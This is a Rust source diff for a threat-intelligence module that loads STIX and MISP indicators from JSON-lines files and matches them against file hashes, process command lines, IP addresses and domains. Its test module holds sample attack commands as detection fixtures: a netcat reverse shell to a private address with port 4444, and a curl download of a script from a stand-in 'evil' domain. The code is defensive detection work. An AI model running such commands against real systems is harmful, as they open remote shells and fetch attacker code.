@@ -1,0 +1,561 @@
+//! Shared threat intelligence: indicators imported from STIX 2.1 and MISP, carried in bundles as
+//! JSON lines (`*.jsonl`), one indicator per line, each with where it came from:
+//!
+//! ```text
+//! {"source":"stix","id":"indicator--…","origin":"https://taxii.example/api/collections/…/",
+//!  "name":"…","description":"…","score":90,"techniques":["T1505.003"],
+//!  "valid_until_ms":1790000000000,"pattern_type":"stix","pattern":"[file:name = 'x']"}
+//! {"source":"misp","id":"<attribute uuid>","event":"<event uuid>","origin":"<feed>", …}
+//! ```
+//!
+//! `pattern_type` is `stix` (see [`crate::stix`] for what is evaluated) or `yara` (the pattern
+//! is YARA source, compiled with the other rules in a namespace of its own). A line that does
+//! not parse, or a pattern that cannot be evaluated, is reported with its line and the reason;
+//! the rest loads. An indicator past its `valid_until_ms` matches nothing.
+
+use std::collections::HashMap;
+use std::net::IpAddr;
+use std::path::Path;
+use std::sync::Arc;
+
+use serde::Deserialize;
+
+use crate::rules::{IndicatorRef, MatchKind, Origin, Problem, ProblemKind, RuleMatch};
+use crate::stix::{self, Field, Subject, Test};
+
+/// A line longer than this is refused.
+pub const MAX_LINE_BYTES: usize = 256 * 1024;
+
+/// One line of an intel file.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct IntelLine {
+    /// `stix` or `misp`.
+    pub source: String,
+    /// The STIX indicator id, or the MISP attribute UUID.
+    pub id: String,
+    /// The MISP event UUID (empty for STIX).
+    #[serde(default)]
+    pub event: String,
+    /// The TAXII collection URL, the feed, or the file it was imported from.
+    #[serde(default)]
+    pub origin: String,
+    #[serde(default)]
+    pub name: String,
+    #[serde(default)]
+    pub description: String,
+    #[serde(default)]
+    pub score: Option<u32>,
+    #[serde(default)]
+    pub techniques: Vec<String>,
+    #[serde(default)]
+    pub valid_until_ms: Option<i64>,
+    /// `stix` or `yara`.
+    pub pattern_type: String,
+    pub pattern: String,
+}
+
+impl IntelLine {
+    /// Parses one line and checks its pattern type.
+    pub fn parse(line: &str) -> Result<IntelLine, String> {
+        if line.len() > MAX_LINE_BYTES {
+            return Err(format!(
+                "line of {} bytes is longer than {MAX_LINE_BYTES}",
+                line.len()
+            ));
+        }
+        let l: IntelLine =
+            serde_json::from_str(line).map_err(|e| format!("not an indicator line: {e}"))?;
+        if l.id.trim().is_empty() {
+            return Err("indicator without an id".into());
+        }
+        if !matches!(l.pattern_type.as_str(), "stix" | "yara") {
+            return Err(format!(
+                "{}: pattern type `{}` is not evaluated (stix or yara)",
+                l.id, l.pattern_type
+            ));
+        }
+        Ok(l)
+    }
+
+    pub fn reference(&self) -> IndicatorRef {
+        IndicatorRef {
+            source: self.source.clone(),
+            id: self.id.clone(),
+            event: self.event.clone(),
+            origin: self.origin.clone(),
+            techniques: self.techniques.clone(),
+        }
+    }
+
+    /// What a detection by this indicator is called.
+    pub fn title(&self) -> &str {
+        if self.name.trim().is_empty() {
+            &self.id
+        } else {
+            &self.name
+        }
+    }
+}
+
+/// Default score of an imported indicator that names none.
+const INTEL_SCORE: u32 = 90;
+
+struct Indicator {
+    reference: Arc<IndicatorRef>,
+    title: String,
+    description: String,
+    score: u32,
+    valid_until_ms: Option<i64>,
+    /// `file:line` of the indicator in its intel file.
+    source: String,
+}
+
+enum Check {
+    Equals(Vec<String>),
+    Network(Vec<(IpAddr, u8)>),
+    Regex(regex::Regex),
+}
+
+struct Conj {
+    indicator: usize,
+    tests: Vec<(Field, Check)>,
+}
+
+/// What a file offers to comparisons.
+pub struct FileFacts<'a> {
+    pub name: &'a str,
+    pub md5: Option<&'a str>,
+    pub sha1: Option<&'a str>,
+    pub sha256: Option<&'a str>,
+}
+
+/// Every imported indicator with a STIX pattern, indexed for matching.
+#[derive(Default)]
+pub struct Intel {
+    indicators: Vec<Indicator>,
+    conjs: Vec<Conj>,
+    /// File alternatives by a hash they require (md5, sha1, sha256).
+    by_hash: [HashMap<String, Vec<usize>>; 3],
+    /// File alternatives with no hash, by the exact name they require.
+    by_name: HashMap<String, Vec<usize>>,
+    /// File alternatives with neither (name patterns).
+    file_scan: Vec<usize>,
+    process: Vec<usize>,
+    by_address: HashMap<IpAddr, Vec<usize>>,
+    networks: Vec<usize>,
+    by_domain: HashMap<String, Vec<usize>>,
+    wants: [bool; 3],
+    pub loaded: usize,
+    pub expired: usize,
+}
+
+fn now_ms() -> i64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_millis() as i64)
+        .unwrap_or(0)
+}
+
+fn hash_slot(f: Field) -> Option<usize> {
+    match f {
+        Field::Md5 => Some(0),
+        Field::Sha1 => Some(1),
+        Field::Sha256 => Some(2),
+        _ => None,
+    }
+}
+
+impl Intel {
+    /// Loads the STIX indicators of one intel file (YARA ones are compiled with the rules).
+    pub fn add_file(&mut self, origin: &Path, text: &str, problems: &mut Vec<Problem>) {
+        let name = origin.to_string_lossy();
+        let now = now_ms();
+        for (i, line) in text.lines().enumerate() {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            let source = format!("{name}:{}", i + 1);
+            let result = IntelLine::parse(line).and_then(|l| {
+                if l.pattern_type != "stix" {
+                    return Ok(());
+                }
+                if l.valid_until_ms.is_some_and(|t| t <= now) {
+                    self.expired += 1;
+                    return Ok(());
+                }
+                let pattern = stix::parse(&l.pattern).map_err(|e| format!("{}: {e}", l.id))?;
+                self.add(&l, pattern, source)
+            });
+            if let Err(reason) = result {
+                problems.push(Problem {
+                    path: origin.to_owned(),
+                    line: Some(i + 1),
+                    reason,
+                    kind: ProblemKind::Indicator,
+                    origin: Origin::Local,
+                });
+            }
+        }
+    }
+
+    fn add(&mut self, l: &IntelLine, pattern: stix::Pattern, source: String) -> Result<(), String> {
+        let index = self.indicators.len();
+        let mut conjs = Vec::new();
+        for alt in pattern.alternatives {
+            let mut tests = Vec::new();
+            for c in alt {
+                let check = match c.test {
+                    Test::Equals(v) => Check::Equals(v),
+                    Test::Network(n) => Check::Network(n),
+                    Test::Regex(r) => Check::Regex(
+                        regex::RegexBuilder::new(&r)
+                            .size_limit(8 << 20)
+                            .build()
+                            .map_err(|e| format!("{}: {e}", l.id))?,
+                    ),
+                };
+                tests.push((c.field, check));
+            }
+            conjs.push(tests);
+        }
+        for tests in conjs {
+            let at = self.conjs.len();
+            let subject = tests[0].0.subject();
+            match subject {
+                Subject::File => {
+                    let hash = tests.iter().find_map(|(f, c)| match (hash_slot(*f), c) {
+                        (Some(s), Check::Equals(v)) => Some((s, v)),
+                        _ => None,
+                    });
+                    let name = tests.iter().find_map(|(f, c)| match (f, c) {
+                        (Field::FileName, Check::Equals(v)) => Some(v),
+                        _ => None,
+                    });
+                    if let Some((slot, values)) = hash {
+                        for v in values {
+                            self.by_hash[slot].entry(v.clone()).or_default().push(at);
+                        }
+                    } else if let Some(values) = name {
+                        for v in values {
+                            self.by_name.entry(v.clone()).or_default().push(at);
+                        }
+                    } else {
+                        self.file_scan.push(at);
+                    }
+                    for (f, _) in &tests {
+                        if let Some(s) = hash_slot(*f) {
+                            self.wants[s] = true;
+                        }
+                    }
+                }
+                Subject::Process => self.process.push(at),
+                Subject::Network => {
+                    let exact = tests.iter().find_map(|(_, c)| match c {
+                        Check::Network(n) if n.iter().all(|(ip, b)| full(*ip, *b)) => Some(n),
+                        _ => None,
+                    });
+                    match exact {
+                        Some(n) => {
+                            for (ip, _) in n {
+                                self.by_address.entry(*ip).or_default().push(at);
+                            }
+                        }
+                        None => self.networks.push(at),
+                    }
+                }
+                Subject::Domain => {
+                    for (_, c) in &tests {
+                        if let Check::Equals(v) = c {
+                            for d in v {
+                                self.by_domain.entry(d.clone()).or_default().push(at);
+                            }
+                            break;
+                        }
+                    }
+                }
+            }
+            self.conjs.push(Conj {
+                indicator: index,
+                tests,
+            });
+        }
+        self.indicators.push(Indicator {
+            reference: Arc::new(l.reference()),
+            title: l.title().to_string(),
+            description: l.description.clone(),
+            score: l.score.unwrap_or(INTEL_SCORE).min(100),
+            valid_until_ms: l.valid_until_ms,
+            source,
+        });
+        self.loaded += 1;
+        Ok(())
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.indicators.is_empty()
+    }
+    pub fn wants_md5(&self) -> bool {
+        self.wants[0]
+    }
+    pub fn wants_sha1(&self) -> bool {
+        self.wants[1]
+    }
+    pub fn wants_sha256(&self) -> bool {
+        self.wants[2]
+    }
+    pub fn has_files(&self) -> bool {
+        self.wants.iter().any(|w| *w) || !self.by_name.is_empty() || !self.file_scan.is_empty()
+    }
+    pub fn has_processes(&self) -> bool {
+        !self.process.is_empty() || !self.by_domain.is_empty()
+    }
+    pub fn has_addresses(&self) -> bool {
+        !self.by_address.is_empty() || !self.networks.is_empty()
+    }
+
+    /// Indicators matching a file.
+    pub fn match_file(&self, facts: &FileFacts<'_>, out: &mut Vec<RuleMatch>) {
+        let mut candidates: Vec<usize> = self.file_scan.clone();
+        for (slot, digest) in [facts.md5, facts.sha1, facts.sha256]
+            .into_iter()
+            .enumerate()
+        {
+            if let Some(c) = digest.and_then(|d| self.by_hash[slot].get(d)) {
+                candidates.extend(c);
+            }
+        }
+        if let Some(c) = self.by_name.get(facts.name) {
+            candidates.extend(c);
+        }
+        self.emit(candidates, out, |field, check| {
+            let value = match field {
+                Field::FileName => Some(facts.name),
+                Field::Md5 => facts.md5,
+                Field::Sha1 => facts.sha1,
+                Field::Sha256 => facts.sha256,
+                _ => None,
+            };
+            value.is_some_and(|v| text_check(check, v))
+        });
+    }
+
+    /// Indicators matching a process by its name and command line, and domains its command
+    /// line names.
+    pub fn match_process(&self, name: &str, cmdline: &str, out: &mut Vec<RuleMatch>) {
+        let mut candidates = self.process.clone();
+        let domains: Vec<String> = if self.by_domain.is_empty() {
+            Vec::new()
+        } else {
+            domain_tokens(cmdline).collect()
+        };
+        for token in &domains {
+            if let Some(c) = self.by_domain.get(token) {
+                candidates.extend(c);
+            }
+        }
+        self.emit(candidates, out, |field, check| match field {
+            Field::ProcessName => text_check(check, name),
+            Field::CommandLine => text_check(check, cmdline),
+            Field::Domain => domains.iter().any(|d| text_check(check, d)),
+            _ => false,
+        });
+    }
+
+    /// Indicators matching a remote address.
+    pub fn match_address(&self, ip: IpAddr, out: &mut Vec<RuleMatch>) {
+        let mut candidates = self.networks.clone();
+        if let Some(c) = self.by_address.get(&ip) {
+            candidates.extend(c);
+        }
+        self.emit(candidates, out, |field, check| match (field, check) {
+            (Field::Address, Check::Network(nets)) => {
+                nets.iter().any(|(n, b)| crate::ioc::in_network(ip, *n, *b))
+            }
+            _ => false,
+        });
+    }
+
+    /// Checks each candidate alternative whole; one match per indicator.
+    fn emit(
+        &self,
+        mut candidates: Vec<usize>,
+        out: &mut Vec<RuleMatch>,
+        test: impl Fn(Field, &Check) -> bool,
+    ) {
+        candidates.sort_unstable();
+        candidates.dedup();
+        let now = now_ms();
+        let mut done: Vec<usize> = Vec::new();
+        for at in candidates {
+            let conj = &self.conjs[at];
+            if done.contains(&conj.indicator) || !conj.tests.iter().all(|(f, c)| test(*f, c)) {
+                continue;
+            }
+            let ind = &self.indicators[conj.indicator];
+            if ind.valid_until_ms.is_some_and(|t| t <= now) {
+                continue;
+            }
+            done.push(conj.indicator);
+            let kind = match conj.tests[0].0.subject() {
+                Subject::File if conj.tests.iter().any(|(f, _)| hash_slot(*f).is_some()) => {
+                    MatchKind::Hash
+                }
+                Subject::File => MatchKind::Filename,
+                Subject::Process | Subject::Domain => MatchKind::Process,
+                Subject::Network => MatchKind::Connection,
+            };
+            out.push(RuleMatch {
+                kind,
+                rule: ind.title.clone(),
+                source: ind.source.clone(),
+                score: ind.score,
+                description: ind.description.clone(),
+                author: String::new(),
+                reference: String::new(),
+                indicator: ind.reference.clone(),
+            });
+        }
+    }
+}
+
+fn full(ip: IpAddr, bits: u8) -> bool {
+    bits == if ip.is_ipv4() { 32 } else { 128 }
+}
+
+fn text_check(check: &Check, value: &str) -> bool {
+    match check {
+        Check::Equals(v) => v.iter().any(|x| x == value),
+        Check::Regex(r) => r.is_match(value),
+        Check::Network(_) => false,
+    }
+}
+
+/// Lowercased words of a command line that look like domain names (URLs included).
+fn domain_tokens(cmdline: &str) -> impl Iterator<Item = String> + '_ {
+    cmdline
+        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
+        .map(|t| t.trim_matches('.').to_ascii_lowercase())
+        .filter(|t| stix::is_domain(t) && t.chars().any(|c| c.is_ascii_alphabetic()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn load(lines: &[String]) -> (Intel, Vec<Problem>) {
+        let mut intel = Intel::default();
+        let mut problems = Vec::new();
+        intel.add_file(Path::new("intel/x.jsonl"), &lines.join("\n"), &mut problems);
+        (intel, problems)
+    }
+
+    fn line(id: &str, pattern: &str) -> String {
+        serde_json::json!({
+            "source": "stix", "id": id, "origin": "https://taxii.example/c/",
+            "pattern_type": "stix", "pattern": pattern, "techniques": ["T1505.003"],
+        })
+        .to_string()
+    }
+
+    #[test]
+    fn files_processes_addresses_and_domains_match_with_provenance() {
+        let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+        let (intel, problems) = load(&[
+            line(
+                "indicator--a",
+                &format!("[file:hashes.'SHA-256' = '{sha}']"),
+            ),
+            line(
+                "indicator--b",
+                "[file:name = 'evil.sh' AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
+            ),
+            line(
+                "indicator--c",
+                "[ipv4-addr:value = '198.51.100.0/24'] OR [ipv6-addr:value = '2001:db8::1']",
+            ),
+            line(
+                "indicator--d",
+                "[process:command_line MATCHES 'nc -e /bin/sh']",
+            ),
+            line("indicator--e", "[domain-name:value = 'evil.example']"),
+            line(
+                "indicator--f",
+                "[file:name = 'a'] FOLLOWEDBY [file:name = 'b']",
+            ),
+        ]);
+        assert_eq!(problems.len(), 1, "{problems:?}");
+        assert!(
+            problems[0].reason.starts_with("indicator--f: FOLLOWEDBY"),
+            "{}",
+            problems[0]
+        );
+        assert_eq!(intel.loaded, 5);
+        assert!(intel.wants_sha256() && intel.wants_md5() && !intel.wants_sha1());
+
+        let mut out = Vec::new();
+        intel.match_file(
+            &FileFacts {
+                name: "evil.sh",
+                md5: Some("d41d8cd98f00b204e9800998ecf8427e"),
+                sha1: None,
+                sha256: Some(sha),
+            },
+            &mut out,
+        );
+        let ids: Vec<_> = out.iter().map(|m| m.indicator.id.as_str()).collect();
+        assert_eq!(ids, ["indicator--a", "indicator--b"]);
+        assert_eq!(out[0].indicator.origin, "https://taxii.example/c/");
+        assert_eq!(out[0].indicator.techniques, ["T1505.003"]);
+        assert_eq!(out[0].source, "intel/x.jsonl:1");
+        out.clear();
+        intel.match_file(
+            &FileFacts {
+                name: "other.sh",
+                md5: Some("d41d8cd98f00b204e9800998ecf8427e"),
+                sha1: None,
+                sha256: None,
+            },
+            &mut out,
+        );
+        assert!(out.is_empty(), "AND needs the name too");
+
+        intel.match_address("198.51.100.7".parse().unwrap(), &mut out);
+        intel.match_address("2001:db8::1".parse().unwrap(), &mut out);
+        intel.match_address("198.51.101.7".parse().unwrap(), &mut out);
+        assert_eq!(out.len(), 2);
+        assert!(
+            out.iter()
+                .all(|m| m.kind == MatchKind::Connection && m.indicator.id == "indicator--c")
+        );
+        out.clear();
+
+        intel.match_process(
+            "bash",
+            "curl -s https://EVIL.example/x.sh -o /tmp/x",
+            &mut out,
+        );
+        intel.match_process("sh", "nc -e /bin/sh 10.0.0.1 4444", &mut out);
+        intel.match_process("sh", "curl https://notevil.example/", &mut out);
+        let ids: Vec<_> = out.iter().map(|m| m.indicator.id.as_str()).collect();
+        assert_eq!(ids, ["indicator--e", "indicator--d"]);
+    }
+
+    #[test]
+    fn expired_and_malformed_lines() {
+        let mut expired: serde_json::Value =
+            serde_json::from_str(&line("indicator--old", "[file:name = 'x']")).unwrap();
+        expired["valid_until_ms"] = 1_000.into();
+        let (intel, problems) = load(&[
+            expired.to_string(),
+            "{not json".into(),
+            r#"{"source":"stix","id":"i","pattern_type":"sigma","pattern":"x"}"#.into(),
+            r#"{"source":"stix","id":"i","pattern_type":"stix","pattern":"x","extra":1}"#.into(),
+        ]);
+        assert_eq!((intel.loaded, intel.expired), (0, 1));
+        assert_eq!(problems.len(), 3, "{problems:?}");
+        assert_eq!(problems[1].line, Some(3));
+        assert!(problems[1].reason.contains("sigma"));
+    }
+}
